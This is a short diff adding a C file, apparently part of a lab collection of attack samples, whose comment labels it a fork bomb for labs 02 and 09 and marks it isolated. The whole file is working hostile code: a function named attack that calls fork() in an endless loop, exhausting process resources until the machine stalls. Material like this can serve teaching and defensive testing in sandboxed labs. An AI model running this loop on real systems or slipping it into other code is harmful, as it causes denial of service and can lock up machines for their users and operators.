@@ -1,0 +1,10 @@
+/* Attack: a fork bomb.
+ * Labs: 02 09
+ * Isolated: yes */
+#include <unistd.h>
+
+static void attack(void)
+{
+    for (;;)
+        fork();
+}
